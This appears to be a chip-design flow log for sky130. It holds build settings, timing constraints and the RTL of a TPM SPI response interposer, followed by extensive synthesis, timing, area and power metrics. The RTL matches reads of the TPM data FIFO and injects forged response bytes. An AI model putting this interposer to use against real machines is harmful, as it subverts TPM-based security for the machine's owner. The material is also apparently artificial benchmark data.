$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = tpm_resp_mitm
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/tpm_resp_mitm.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CORE_MARGIN = 8
export CORE_UTILIZATION = 53
export DETAILED_ROUTE_END_ITERATION = 16
export GPL_ROUTABILITY_DRIVEN = 0
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.81
export SLEW_MARGIN = 5
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name sys_clk -period 3.17 [get_ports sys_clk]
set_input_delay 0.951 -clock sys_clk [delete_from_list [all_inputs] [get_ports sys_clk]]
set_output_delay 0.951 -clock sys_clk [all_outputs]
set_load 0.01 [all_outputs]
$ cat src/rtl/tpm_resp_mitm.sv
// TPM SPI response interposer. It parses if0 headers, counts the FIFO read response seen on
// if1 and injects substitute payload bytes through a fake if0 driver.
module tpm_resp_mitm #(
  parameter int unsigned NUM_DATA_BITS   = 8,
  parameter int unsigned NUM_MITM_MODES  = 3,
  parameter logic [7:0]  TARGET_REG_ADDR = 8'h24,
  parameter logic [7:0]  SUB_BASE_BYTE   = 8'hAA,
  parameter int unsigned RESP_HDR_BYTES  = 10
) (
  input  logic                      sys_clk,
  input  logic                      rst_n,
  input  logic [NUM_MITM_MODES-1:0] mode_select,
  input  logic                      if0_recv_new_data,
  input  logic                      if1_recv_new_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if0_recv_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if1_recv_data,
  input  logic                      fake_if0_send_ready,
  input  logic                      fake_if0_send_done,
  output logic                      fake_if0_select,
  output logic                      fake_if0_send_start,
  output logic                      fake_if0_keep_alive,
  output logic [NUM_DATA_BITS-1:0]  fake_if0_send_data,
  output logic                      busy,
  output logic [15:0]               sub_count
);

  localparam logic [2:0] MODE_FWD   = 3'b001;
  localparam logic [2:0] MODE_CONST = 3'b010;
  localparam logic [2:0] MODE_INC   = 3'b100;

  typedef enum logic [1:0] {StIdle, StCount, StSendStart, StSendWait} state_e;

  state_e      r_state, w_state_nxt;
  logic [7:0]  r_hdr_cmd, r_hdr_addr;
  logic [1:0]  r_hdr_cnt;
  logic        r_hdr_valid;
  logic [7:0]  r_skip_ctr;
  logic [2:0]  r_active_mode, w_mode_dec;
  logic [16:0] r_resp_ctr, w_resp_ctr_nxt;
  logic [15:0] r_rand_size, w_rand_size_nxt;
  logic        r_select, w_select_nxt;
  logic        r_start, w_start_nxt;
  logic [7:0]  r_send_data, w_send_data_nxt;
  logic [15:0] r_sub_count, w_sub_count_nxt;
  logic [16:0] w_resp_end;
  logic [7:0]  w_sub_k;
  logic [7:0]  w_sub_byte;

  // Header parser. Only the command byte (R/W + size) and the low address byte are kept,
  // which is all a 32-bit MSB-first shift would expose at hdr[31:24] and hdr[7:0].
  always_ff @(posedge sys_clk or negedge rst_n) begin
    if (!rst_n) begin
      r_hdr_cmd   <= 8'h00;
      r_hdr_addr  <= 8'h00;
      r_hdr_cnt   <= 2'd0;
      r_hdr_valid <= 1'b0;
      r_skip_ctr  <= 8'h00;
    end else begin
      r_hdr_valid <= 1'b0;
      if (r_hdr_valid) begin
        r_skip_ctr <= {1'b0, r_hdr_cmd[6:0]} + 8'd1;
      end else if (if0_recv_new_data) begin
        if (r_skip_ctr != 8'h00) begin
          r_skip_ctr <= r_skip_ctr - 8'd1;
        end else begin
          if (r_hdr_cnt == 2'd0) r_hdr_cmd <= real_if0_recv_data;
          if (r_hdr_cnt == 2'd3) begin
            r_hdr_addr  <= real_if0_recv_data;
            r_hdr_valid <= 1'b1;
          end
          r_hdr_cnt <= r_hdr_cnt + 2'd1;
        end
      end
    end
  end

  always_comb begin
    unique case (mode_select)
      MODE_CONST: w_mode_dec = MODE_CONST;
      MODE_INC:   w_mode_dec = MODE_INC;
      default:    w_mode_dec = MODE_FWD;
    endcase
  end

  assign w_resp_end = 17'(RESP_HDR_BYTES + 2) + {1'b0, r_rand_size};
  assign w_sub_k    = r_resp_ctr[7:0] - 8'(RESP_HDR_BYTES + 2);
  assign w_sub_byte = (r_active_mode == MODE_INC) ? SUB_BASE_BYTE + w_sub_k : SUB_BASE_BYTE;

  always_comb begin
    w_state_nxt     = r_state;
    w_resp_ctr_nxt  = r_resp_ctr;
    w_rand_size_nxt = r_rand_size;
    w_select_nxt    = r_select;
    w_start_nxt     = r_start;
    w_send_data_nxt = r_send_data;
    w_sub_count_nxt = r_sub_count;
    unique case (r_state)
      StIdle: begin
        if (r_hdr_valid && r_hdr_cmd[7] && (r_hdr_addr == TARGET_REG_ADDR) &&
            (r_active_mode != MODE_FWD)) begin
          w_state_nxt = StCount;
        end
      end
      StCount: begin
        if (r_skip_ctr == 8'h00) begin
          // Frame over; an unfinished response resumes in the next matching read.
          if (r_resp_ctr == w_resp_end) begin
            w_select_nxt    = 1'b0;
            w_resp_ctr_nxt  = 17'd0;
            w_rand_size_nxt = 16'h0000;
          end
          w_state_nxt = StIdle;
        end else if (r_resp_ctr < 17'(RESP_HDR_BYTES)) begin
          if (if1_recv_new_data) w_resp_ctr_nxt = r_resp_ctr + 17'd1;
        end else if (r_resp_ctr < 17'(RESP_HDR_BYTES + 2)) begin
          if (if1_recv_new_data) begin
            w_rand_size_nxt = {r_rand_size[7:0], real_if1_recv_data};
            w_resp_ctr_nxt  = r_resp_ctr + 17'd1;
          end
        end else if ((r_resp_ctr < w_resp_end) && fake_if0_send_ready) begin
          w_send_data_nxt = w_sub_byte;
          w_select_nxt    = 1'b1;
          w_start_nxt     = 1'b1;
          w_state_nxt     = StSendStart;
        end
      end
      StSendStart: begin
        w_start_nxt = 1'b0;
        w_state_nxt = StSendWait;
      end
      StSendWait: begin
        if (fake_if0_send_done) begin
          w_resp_ctr_nxt = r_resp_ctr + 17'd1;
          if (r_sub_count != 16'hFFFF) w_sub_count_nxt = r_sub_count + 16'd1;
          w_state_nxt = StCount;
        end
      end
      default: w_state_nxt = StIdle;
    endcase
  end

  always_ff @(posedge sys_clk or negedge rst_n) begin
    if (!rst_n) begin
      r_state       <= StIdle;
      r_active_mode <= MODE_FWD;
      r_resp_ctr    <= 17'd0;
      r_rand_size   <= 16'h0000;
      r_select      <= 1'b0;
      r_start       <= 1'b0;
      r_send_data   <= 8'h00;
      r_sub_count   <= 16'h0000;
    end else begin
      r_state     <= w_state_nxt;
      r_resp_ctr  <= w_resp_ctr_nxt;
      r_rand_size <= w_rand_size_nxt;
      r_select    <= w_select_nxt;
      r_start     <= w_start_nxt;
      r_send_data <= w_send_data_nxt;
      r_sub_count <= w_sub_count_nxt;
      // Mode is latched only between responses so a split response keeps its mode.
      if ((r_state == StIdle) && (r_resp_ctr == 17'd0)) r_active_mode <= w_mode_dec;
    end
  end

  assign fake_if0_select     = r_select;
  assign fake_if0_send_start = r_start;
  assign fake_if0_keep_alive = 1'b0;
  assign fake_if0_send_data  = r_send_data;
  assign sub_count           = r_sub_count;
  assign busy                = (r_state != StIdle) | (r_resp_ctr != 17'd0);

endmodule

# Word-level counts from Yosys, hierarchy flattened
# Cells that the tools add are included.
# op_classes
order_cmp,3
reduce_logical,30
n_eq_ne,25
n_addsub,8
muxes,35
n_bitwise,6
# op_table
cell,n
17-bit 2-to-1 mux,6
16-bit 2-to-1 mux,5
17-bit by 4-bit less-than comparator with 1-bit output (second input constant),2
17-bit case mux with 2 select lines,1
8-bit 2-to-1 mux,4
5-bit AND reduction,5
17-bit by 1-bit adder with 17-bit output (second input constant),1
4-bit by 16-bit adder with 17-bit output (first input constant),1
17-bit equality test,1
17-bit zero test,1
17-bit less-than comparator,1
17-bit nonzero test,1
16-bit by 1-bit adder with 16-bit output (second input constant),1
16-bit inequality test (second input constant),1
2-bit inequality test (second input constant),8
2-bit nonzero test,8
2-bit 2-to-1 mux,6
3-bit inequality test (second input constant),4
4-bit AND reduction,3
1-bit 2-to-1 mux,10
7-bit by 1-bit adder with 8-bit output (second input constant),1
8-bit adder (first input constant),1
8-bit by 6-bit equality test with 1-bit output (second input constant),1
8-bit zero test,1
other kinds (20),33
# word_totals
ff_bits,91
wordCells,120

# Logic depth before layout (Yosys ltp)
# logic_depth
word_depth,8
mapped_depth,21
depth_no_buf,21

# Worst setup path before layout
# Ideal clock, no wire load.
# synth_timing
path_kind,reg-to-reg
start,reg r_rand_size[2]
end,reg r_send_data[7] (netlist: fake_if0_send_data[7])
setup_time_ps,121
arrival_ps,2680
slack_ps,369
path_buffers,1
synth_period_minus_slack_ps,2801
path_stages_with_launch,20
cell_sequence,dfrtp_1 inv_1 ha_1 nor3_2 nand3_1 nor2_1 nand2_1 nor2_1 nand2_1 xor2_1 ha_1 nand2_1 a21oi_1 nor2_1 nand2_1 nor2_1 nand4_4 buf_6 nand2_1 o21ai_2
# synth_via
elab_chain_cells,4
# synth_lines
item,line,text
"start, declared",40,"logic [15:0] r_rand_size, w_rand_size_nxt;"
"start signal, assigned",155,r_rand_size <= w_rand_size_nxt;
4-bit by 16-bit adder with 17-bit output,85,"assign w_resp_end = 17'(RESP_HDR_BYTES + 2) + {1'b0, r_rand_size};"
17-bit less-than comparator,120,end else if ((r_resp_ctr < w_resp_end) && fake_if0_send_ready) begin
1-bit logical AND,120,
5-bit AND reduction (no line),n/a,
"end signal, assigned",158,r_send_data <= w_send_data_nxt;
"end, declared",43,"logic [7:0] r_send_data, w_send_data_nxt;"
# Every way passes these cells.
# A chain may end at the register's enable or synchronous reset.

# Worst setup path after layout
# layout_timing
start,reg r_resp_ctr[1]
end,out busy
# layout_via
elab_chain_cells,2
# layout_lines
item,line,text
"start, declared",39,"logic [16:0] r_resp_ctr, w_resp_ctr_nxt;"
"start signal, assigned",154,r_resp_ctr <= w_resp_ctr_nxt;
17-bit nonzero test,170,assign busy = (r_state != StIdle) | (r_resp_ctr != 17'd0);
1-bit bitwise OR,170,
"end, declared",23,"output logic busy,"
# Every way passes these cells.

==> results_dict.tcl <==
set metrics [dict create \
    fin_ws_ns 0.148 \
    synth_top_area_cell "dfrtp_1" \
    dieArea_um2 14300 \
    synth_top_family_by_area "simple AND/OR/NAND/NOR gates" \
    syn_area_um2 5680 \
    cp-start-kind "flip-flop" \
    cp_num_buf_inv 2 \
    drcViolationCount 0 \
    r2r_start "r_rand_size[2]" \
    initial_core_util 0.548 \
    p_int_mw 2.51 \
    muxShareOfSynthArea 0 \
    slew_headroom 0.509 \
    worstSetupPathType "reg2out" \
    synth_common_cells "nand2_1, dfrtp_1, inv_1" \
    grt_pass1_vias 5017 \
    die-width_um 120 \
    cts_tree "yes" \
    critical_path_arrival_ns 2.07 \
    h-tree-depth 3 \
    finalWorstPathRequiredPeriod_ns 3.02 \
    status "completed" \
    netlist_instances 729 \
    synth_cell_types 41 \
    async_reset_ff_frac 1.00 \
    syn_area_per_cell_um2 7.79 \
    detail-route-antenna-nets 0 \
    startpoint "r_resp_ctr[1]" \
    yosysSeqAreaShare 0.401 \
    vias 5013 \
    fmax_mhz 331 \
    area_delta_synth_final_pct 16.4 \
    clockPowerShare 0.213 \
    io_pins 53 \
    drt-wirelength-per-cell_um 14.2 \
    grt_max_degree 40 \
    drv_slew 0 \
    leakage_nw 3.14 \
    synth_edf_count 0 \
    hpwl_um 9830 \
    hold_violations 0 \
    drive_above_1_share 0.0859 \
    drt_iter0_markers 335 \
    worstSetupEndpointType "primary output" \
    setup_viol 0 \
    fill_cells 862 \
    pre_cts_slack_ns 0.0503 \
    worstPathMaxFanout 6 \
    drv_cap 0 \
    ys.flop_type "dfrtp_1" \
    p_sw_frac 0.404 \
    max_stage_delay_ns 0.49 \
    synthSimpleGateAreaFrac 0.281 \
    port_buffers 51 \
    synth_top_area_frac 0.397 \
    hold_buffers 0 \
    path_cells "inv_1 > ha_1 > nand3_1 > nor3_1 > nand4_1 > dlygate4sd2_1" \
    synthesis.nets 787 \
    cts.clk_slew.worst_paths_ns 0.10 \
    rows 37 \
    firstDrtPassIters 5 \
    finalCritPeriodShare 0.953 \
    clock-skew-final_ns 0.0158 \
    synth_compound_area_frac 0.113 \
    cts_buffer_depth 2 \
    seq_power_share 0.385 \
    cts_inserted_buffers 9 \
    cpMaxStageDelayCell "dfrtp_1" \
    grt_pass1_wl_um 22900 \
    grt_overflow 0 \
    fp.dieH_um 120 \
    cts_root_buffer "clkbuf_8" \
    yosysMostFrequentCell "nand2_1" \
    insertion_delay_ns 0.37 \
    ys_ff_latch 91 \
    whs_ns 0.480 \
    cp_data_required_time_ns 2.22 \
    vias_per_cell 5.40 \
    antenna_found_initial 0 \
    grt_use_total 0.197 \
    power_density_nw_per_um2 638 \
    vdd_drop_max_mv 0.498 \
    p_comb_frac 0.402 \
    max_slew.worst_pin.slew_ns 0.731 \
    final_nets 845 \
    cp_top_family "buffers and inverters" \
    coreArea_um2 10400 \
    hp-class "reg2reg" \
    synth_fa_ha_area_frac 0.0727 \
    cts.sinks 91 \
    holdCritStartpoint "r_rand_size[3]" \
    yosysWarnings 0 \
    wl_um 13100 \
    synth_xor_area_frac 0.0586 \
    ys_top_cells_by_area "dfrtp_1, nand2_1, ha_1" \
    p_sw_mw 1.70 \
    diodes 0 \
]
final cells by class:
cell class                 instances  area [um^2]  area share
clock buffer                      12          145      0.0220
clock inverter                     4         73.8      0.0112
inverter                          81          304      0.0460
multi-input combinational        539         3000       0.454
sequential                        91         2280       0.345
tap                              136          170      0.0257
timing repair buffer              65          637      0.0963
metal layers:
metal	up-vias	wire length, um	GRT usage
met5	-	0	-
li1	2492	-	-
met3	27	548	0.0272
met2	123	6490	0.330
met4	0	320	0.0773
met1	2371	5780	0.236
stage by stage:
stage	std cells	instance area (um^2)	TNS [ns]	power, mW	utilization
global route	928	6610	-0.000873	4.56	0.638
floorplan	729	5680	0	2.79	-
CTS	926	6570	0	4.20	0.633
global placement	910	6350	0	3.22	0.612
finish	928	6610	0	4.22	0.638
detailed placement	910	6350	0	3.30	0.612
flip-flops by register name, indices dropped and copies added (netlist names):
signal,count
fake_if0_send_data,8
r_resp_ctr,17
r_hdr_cnt,2
r_skip_ctr,8
fake_if0_select,1
r_state,2
r_hdr_addr,8
r_active_mode,3
r_rand_size,16
r_hdr_cmd,8
fake_if0_send_start,1
r_hdr_valid,1
sub_count,16
power by group through the flow:
stage	clock network [mW]	logic, mW	registers [mW]
final	0.899	1.69	1.63
after detailed placement	0	1.66	1.64
after global routing	0.954	1.95	1.66
after floorplan	0	1.17	1.61
after global placement	0	1.59	1.63
after CTS	0.903	1.68	1.62
worst paths after layout:
kind,cells after the start,slack [ns],to
max,6,0.15,busy
min in group asynchronous,1,0.55,r_resp_ctr[9]
min reg2reg,2,0.48,r_rand_size[3]
max in group asynchronous,2,1.96,r_active_mode[0]
min,2,0.48,r_rand_size[3]
max reg2reg,20,0.26,r_resp_ctr[7]
tightest hold or removal path, stage by stage, from the launching register on:
cell     delay [ns]
dfrtp_1        0.35
nand2_1        0.05
nand2_1        0.05
kinds of logic (layout without fill, tap and decap cells):
kind of cell             count (synthesis)  in the layout
adder cells (fa/ha/maj)                 33             33
flip-flops                              91             91
AND/OR/NAND/NOR                        357            357
AO/OA/AOI/OAI                          110            110
buffers and inverters                   99            162
other                                    1              1
XOR/XNOR                                38             38
cells in the final DEF (no fill, tap or decap), drive strengths merged, types with 2 or more instances in the layout:
cell           Yosys  routed
bufinv             0       2
a21oi             19      19
nand3b             5       5
or2                2       2
dfrtp             90      90
a21o               2       2
buf               14      15
nor2              61      61
xnor2             11      11
clkdlybuf4s50      0      49
inv               81      81
nor3              15      15
o21ai             70      70
o211ai            11      11
nand3             41      41
clkbuf             4      12
nor4               5       5
o21a               2       2
a31oi              3       3
xor2              27      27
nand4             19      19
ha                33      33
clkinv             0       2
nand2            208     208
what timing repair did:
action	4_1_cts	5_1_grt
gates resized for setup	1	4
buffers inserted	0	2
setup endpoints to repair	1	31
pin swaps	1	2
Power figures use the tool's default switching activity.
